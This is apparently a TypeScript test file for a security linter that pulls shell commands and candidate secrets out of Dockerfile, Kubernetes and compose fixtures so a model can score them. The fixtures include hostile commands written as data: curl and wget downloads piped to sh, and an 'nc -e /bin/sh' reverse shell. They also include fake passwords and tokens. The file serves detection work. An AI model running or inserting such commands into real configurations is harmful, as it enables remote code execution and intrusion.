/**
 * What the model is shown, and where its findings land: shell sub-commands and candidate secret
 * values of every file kind, with exact ranges.
 */
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { parseDockerfile } from '../../server/src/core/documents/dockerfile';
import { parseKubernetes } from '../../server/src/core/documents/kubernetes';
import { parseCompose } from '../../server/src/core/documents/compose';
import { modelCandidates, splitSubcommands } from '../../server/src/core/model/candidates';
import { publicValue, secretParts } from '../../server/src/core/secrets/secretParts';
import { knownSecretFormats } from '../../server/src/core/secrets/secretValues';
import { gradeSecret } from '../../server/src/core/secrets/secretGrade';
import { secretKey, type ModelPredictions } from '../../server/src/core/model/predictions';
import { analyzeDocument } from '../../server/src/core/engine';
import { secretInEnv } from '../../server/src/core/rules/kubernetes/workload/secretInEnv';
import { composeSecretInEnvironment } from '../../server/src/core/rules/compose/secretInEnvironment';
import type { Rule } from '../../server/src/core/rule';
import { loadShellParser } from '../../server/src/shellParserLoader';
import type { ShellParser } from '../../server/src/core/documents/shell';

let shellParser: ShellParser;
before(async () => {
  shellParser = await loadShellParser();
});

describe('model candidates', () => {
  it('splits at &&, || , ; and newlines outside quotes; pipelines stay whole', () => {
    const text = `apt-get update && curl -s http://x | sh; echo "a && b" || true\nid`;
    assert.deepEqual(splitSubcommands(text).map((p) => text.slice(p.start, p.end)), ['apt-get update', 'curl -s http://x | sh', 'echo "a && b"', 'true', 'id']);
  });

  it('Dockerfile: RUN pipelines with continuation lines blanked, CMD exec form, HEALTHCHECK, ENV/ARG values, URL and flag secrets', () => {
    const text =
      'FROM alpine:3.22\nARG TOKEN_SOURCE=s3cr3tV4lu3\nENV A=1 B="two words"\n' +
      'RUN apk add curl \\\n    && curl -s http://203.0.113.7/x | sh && git clone https://bob:hunter2pass@git.example.com/r.git\n' +
      'RUN mysql --password=Xy7pQ2 -e "select 1"\n' +
      'CMD ["sh", "-c", "nc -e /bin/sh 10.0.0.1 4444 && sleep 1"]\nHEALTHCHECK --interval=5s CMD wget -qO- localhost:8080/health || exit 1\n';
    const { commands, secrets } = modelCandidates('dockerfile', parseDockerfile(text, shellParser));
    assert.deepEqual(
      commands.map((c) => [c.where, c.text]),
      [
        ['RUN', 'apk add curl'],
        ['RUN', 'curl -s http://203.0.113.7/x | sh'],
        ['RUN', 'git clone https://bob:hunter2pass@git.example.com/r.git'],
        ['RUN', 'mysql --password=Xy7pQ2 -e "select 1"'],
        ['CMD', 'nc -e /bin/sh 10.0.0.1 4444'],
        ['CMD', 'sleep 1'],
        ['HEALTHCHECK', 'wget -qO- localhost:8080/health'],
        ['HEALTHCHECK', 'exit 1'],
      ],
    );
    const run = commands[1];
    assert.equal(text.slice(run.start, run.end), 'curl -s http://203.0.113.7/x | sh');
    assert.deepEqual(
      secrets.map((s) => [s.context, s.name, s.value, text.slice(s.start, s.end)]),
      [
        ['url-credential', 'bob', 'hunter2pass', 'hunter2pass'],
        ['cli-flag', 'password', 'Xy7pQ2', 'Xy7pQ2'],
        ['dockerfile-arg', 'TOKEN_SOURCE', 's3cr3tV4lu3', 's3cr3tV4lu3'],
        ['dockerfile-env', 'A', '1', '1'],
        ['dockerfile-env', 'B', 'two words', 'two words'],
      ],
    );
  });

  it('Kubernetes: sh -c scripts in command or args, lifecycle hooks, exec probes, env values', () => {
    const text = `apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
  - name: app
    image: x:1
    command: ["/bin/sh", "-c"]
    args: ["curl -s http://203.0.113.7/p | sh; sleep 1"]
    env:
    - {name: CONN, value: "Zq8vR2mL9kP4"}
    lifecycle:
      postStart: {exec: {command: [sh, -c, "echo started"]}}
    livenessProbe: {exec: {command: [cat, /tmp/healthy]}}
`;
    const { commands, secrets } = modelCandidates('kubernetes', parseKubernetes(text));
    assert.deepEqual(
      commands.map((c) => [c.where, c.text, text.slice(c.start, c.end)]),
      [
        ['container "app" args', 'curl -s http://203.0.113.7/p | sh', 'curl -s http://203.0.113.7/p | sh'],
        ['container "app" args', 'sleep 1', 'sleep 1'],
        ['container "app" postStart', 'echo started', 'echo started'],
        ['container "app" livenessProbe', 'cat /tmp/healthy', '[cat, /tmp/healthy]'],
      ],
    );
    assert.deepEqual(secrets.map((s) => [s.name, s.value, text.slice(s.start, s.end), s.context]), [['CONN', 'Zq8vR2mL9kP4', 'Zq8vR2mL9kP4', 'k8s-env']]);
  });

  it('compose: command strings and lists, environment in both forms, interpolations skipped', () => {
    const text = 'services:\n  web:\n    image: x\n    command: sh -c "wget -O- http://203.0.113.7/m | sh"\n    environment:\n      - KEY=Zq8vR2mL9kP4\n      - FROM_ENV=${FROM_ENV}\n  job:\n    image: y\n    entrypoint: ["python", "-c", "print(1)"]\n';
    const { commands, secrets } = modelCandidates('compose', parseCompose(text));
    assert.deepEqual(commands.map((c) => [c.where, c.text]), [
      ['service "web" command', 'sh -c "wget -O- http://203.0.113.7/m | sh"'],
      ['service "job" entrypoint', 'python -c print(1)'],
    ]);
    assert.deepEqual(secrets.map((s) => [s.name, s.value, text.slice(s.start, s.end)]), [['KEY', 'Zq8vR2mL9kP4', 'Zq8vR2mL9kP4']]);
  });
});

/**
 * The name-based secret rules ask the model about the values they report; the answer exists only
 * under the key of the candidate the shells scored (`context\0name\0value`), so the rules' queries
 * must be built exactly as the candidates are: quoting, escapes, aliases, list forms and `$$` included.
 */
describe('name-based secret rules find the prediction of their own candidate', () => {
  const cases: { rule: Rule; fileName: string; text: string; graded: string[] }[] = [
    {
      rule: secretInEnv,
      fileName: 'deploy.yaml',
      text: `apiVersion: apps/v1
kind: Deployment
metadata: {name: api}
spec:
  template:
    spec:
      initContainers:
      - name: migrate
        image: m:1
        env:
        - {name: DB_PASSWORD, value: "Zq8v\\"R2mL9kP4"}
      containers:
      - name: api
        image: a:1
        env:
        - name: API_TOKEN
          value: 'it''s-Zq8vR2mL9kP4'
        - name: SESSION_SECRET
          value: &session Zq8vR2mL9kP4rT7w
        - name: SESSION_SECRET_OLD
          value: *session
        - name: SIGNING_KEY
          value: >-
            Zq8vR2mL9kP4rT7w
            Y1nBx6
        - name: SMTP_PASSWORD
          value: hunter2-Zq8vR2
        - name: REDIS_PASSWORD
          value: "Zq8vR2mL9kP4"
`,
      graded: ['DB_PASSWORD', 'API_TOKEN', 'SESSION_SECRET', 'SESSION_SECRET_OLD', 'SIGNING_KEY', 'SMTP_PASSWORD', 'REDIS_PASSWORD'],
    },
    {
      rule: composeSecretInEnvironment,
      fileName: 'compose.yaml',
      text: `x-common: &common
  environment:
    SHARED_TOKEN: Zq8vR2mL9kP4rT7w
services:
  db:
    <<: *common
    image: postgres:16
    environment:
      POSTGRES_PASSWORD: "pa$$w0rd-Zq8vR2"
      DB_PASSWORD_DSN: "Server=db;User Id=app;Password=Zq8vR2mL9kP4;"
      REDIS_PASSWORD: 'it''s-Zq8vR2mL9kP4'
  app:
    <<: *common
    image: app:1
    build:
      context: .
      args:
        NPM_TOKEN: Zq8vR2mL9kP4rT7w
    environment:
      - SESSION_SECRET=Zq8vR2mL9kP4rT7w
      - "API_KEY=Zq8v R2mL9kP4"
  worker:
    <<: *common
    image: worker:1
  cron:
    <<: *common
    image: worker:1
`,
      graded: ['SHARED_TOKEN', 'POSTGRES_PASSWORD', 'DB_PASSWORD_DSN', 'REDIS_PASSWORD', 'SESSION_SECRET', 'API_KEY'],
    },
  ];
  for (const { rule, fileName, text, graded } of cases) {
    it(rule.id, () => {
      const candidates = analyzeDocument({ fileName, text }, undefined, { shellParser, rules: [], collectInputs: true }).inputs!.modelCandidates.secrets;
      if (rule === composeSecretInEnvironment) assert.equal(candidates.filter((c) => c.name === 'SHARED_TOKEN').length, 1, 'an x- block two services merge is one value');
      const candidateKeys = new Set(candidates.map((c) => secretKey(c)));
      const asked: string[] = [];
      const predictions: ModelPredictions = {
        command: () => undefined,
        secret: (query) => {
          asked.push(secretKey(query));
          return candidateKeys.has(secretKey(query)) ? { score: 0.99, threshold: 0.5, evidence: [], model: 'test' } : undefined;
        },
      };
      const { findings } = analyzeDocument({ fileName, text }, undefined, { shellParser, rules: [rule], predictions });
      assert.ok(asked.length >= graded.length, `the rule asked ${asked.length} times`);
      for (const key of asked) assert.ok(candidateKeys.has(key), `no candidate has the key the rule asked for: ${JSON.stringify(key)}`);
      const gradedNames = findings.filter((f) => f.severity === 'error' && f.message.includes('The secret model rates the value a real secret (score 0.99).'));
      assert.deepEqual(
        gradedNames.map((f) => graded.find((name) => f.message.includes(` ${name} `))),
        graded,
        JSON.stringify(findings.map((f) => f.message)),
      );
    });
  }
});

describe('secret parts: what the scorer judges in a value', () => {
  const parts = (value: string, context: 'k8s-env' | 'url-credential' = 'k8s-env') =>
    secretParts({ value, name: 'X', context }).map((p) => [p.context, p.name, p.value, value.slice(p.offset, p.offset + p.value.length), p.publicAs ?? '']);

  it('a URL with a password is judged by the password, under the URL\'s user', () => {
    assert.deepEqual(parts('postgres://app:Rm4vK8pq2Zx@db.internal:5432/app'), [['url-credential', 'app', 'Rm4vK8pq2Zx', 'Rm4vK8pq2Zx', '']]);
    assert.deepEqual(parts('mongodb+srv://a:b1@h1,c:d2@h2/x'), [['url-credential', 'a', 'b1', 'b1', '']]);
  });

  it('a password equal to its user is found where the password is (the format detector and the parts share urlCredentials)', () => {
    const text = 'postgres://postgres:postgres@db:5432/app';
    assert.deepEqual(parts(text), [['url-credential', 'postgres', 'postgres', 'postgres', '']]);
    assert.equal(secretParts({ value: text, name: 'X', context: 'k8s-env' })[0].offset, 'postgres://postgres:'.length);
    assert.deepEqual(knownSecretFormats(text).map((h) => [h.detector, h.start, h.end]), [['password in URL', 'postgres://postgres:'.length, 'postgres://postgres:postgres'.length]]);
  });

  it('connection-string parameters: JDBC query, ADO.NET, Azure account keys', () => {
    assert.deepEqual(parts('jdbc:postgresql://h:5432/o?user=svc&password=Gk4TzQ9wLm2x&ssl=true'), [['cli-flag', 'password', 'Gk4TzQ9wLm2x', 'Gk4TzQ9wLm2x', '']]);
    assert.deepEqual(parts('Server=db;Database=x;User Id=sa;Pwd=P@ss-w0rd;'), [['cli-flag', 'pwd', 'P@ss-w0rd', 'P@ss-w0rd', '']]);
    assert.deepEqual(parts('DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=q8Zt3vLm2Kx9Rw==;EndpointSuffix=core.windows.net'), [['cli-flag', 'accountkey', 'q8Zt3vLm2Kx9Rw==', 'q8Zt3vLm2Kx9Rw==', '']]);
  });

  it('anything else is judged whole; a part stays itself', () => {
    assert.deepEqual(parts('https://hooks.example.com/services/T0/B0/x'), [['k8s-env', 'X', 'https://hooks.example.com/services/T0/B0/x', 'https://hooks.example.com/services/T0/B0/x', '']]);
    assert.deepEqual(parts('Rm4v:K8pq@x', 'url-credential'), [['url-credential', 'X', 'Rm4v:K8pq@x', 'Rm4v:K8pq@x', '']]);
    assert.deepEqual(parts('password=x'), [['cli-flag', 'password', 'x', 'x', '']]);
  });

  it('public values: documented examples and keys public by design, whole or inside a connection string', () => {
    assert.match(publicValue('AKIAIOSFODNN7EXAMPLE') ?? '', /AWS documentation/);
    assert.match(publicValue('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c') ?? '', /jwt\.io/);
    assert.match(publicValue('pk_test_51NaQx7Kd2LbVrT9eP0ym') ?? '', /publishable/);
    assert.match(publicValue('https://4e1b7c9a2d3f4e5a8b6c0d1e2f3a4b5c@o417283.ingest.sentry.io/5829134') ?? '', /Sentry DSN/);
    assert.equal(publicValue('sk_test_51NaQx7Kd2LbVrT9eP0ym'), undefined, 'a secret test-mode key is not public');
    assert.equal(publicValue('https://4e1b7c9a2d3f4e5a8b6c0d1e2f3a4b5c:secret@sentry.example.com/12'), undefined, 'an old DSN with a secret part is not');
    assert.equal(publicValue('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c2VyLTQyIn0.c2lnbmF0dXJl'), undefined, 'another JWT is not the sample');
    const azurite = 'DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==;';
    assert.match(parts(azurite)[0][4], /Azurite/);
  });

  it('candidates: a credential inside a value is a candidate of its own, with its holder; public values are never candidates', () => {
    const text =
      'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: api\n    image: a:1\n    env:\n' +
      '    - {name: DATABASE_URL, value: "postgres://app:Rm4vK8pq2Zx@db:5432/app"}\n' +
      '    - {name: STRIPE_PUBLISHABLE_KEY, value: pk_live_51NaQx7Kd2LbVrT9eP0ymJtH4}\n' +
      '    - {name: PLAIN, value: Zq8vR2mL9kP4}\n';
    const { secrets } = modelCandidates('kubernetes', parseKubernetes(text));
    assert.deepEqual(
      secrets.map((s) => [s.context, s.name, s.value, text.slice(s.start, s.end), s.holder?.name ?? '', s.holder ? text.slice(s.holder.start, s.holder.end) : '']),
      [
        ['url-credential', 'app', 'Rm4vK8pq2Zx', 'Rm4vK8pq2Zx', 'DATABASE_URL', 'postgres://app:Rm4vK8pq2Zx@db:5432/app'],
        ['k8s-env', 'PLAIN', 'Zq8vR2mL9kP4', 'Zq8vR2mL9kP4', '', ''],
      ],
    );
  });

  it('grading a value: by its parts, and a public value is a hint without asking the model', () => {
    const asked: string[] = [];
    const predictions: ModelPredictions = {
      command: () => undefined,
      secret: (query) => {
        asked.push(secretKey(query));
        return { score: query.value === 'Rm4vK8pq2Zx' ? 0.93 : 0.1, threshold: 0.5, evidence: [], model: 'test' };
      },
    };
    assert.deepEqual(gradeSecret(predictions, { value: 'postgres://app:Rm4vK8pq2Zx@db/app', name: 'DB_PASSWORD_URL', context: 'compose-env' }), {
      severity: 'error',
      sentence: 'The secret model rates the value a real secret (score 0.93).',
    });
    assert.deepEqual(asked, [secretKey({ value: 'Rm4vK8pq2Zx', name: 'app', context: 'url-credential' })]);
    const docs = gradeSecret(predictions, { value: 'sk_test_4eC39HqLyjWDarjtT1zdp7dc', name: 'STRIPE_SECRET_KEY', context: 'compose-env' });
    assert.equal(docs?.severity, 'hint');
    assert.match(docs?.sentence ?? '', /Stripe's API documentation: public, not a secret/);
    assert.equal(asked.length, 1, 'the model was not asked about the public value');
  });
});
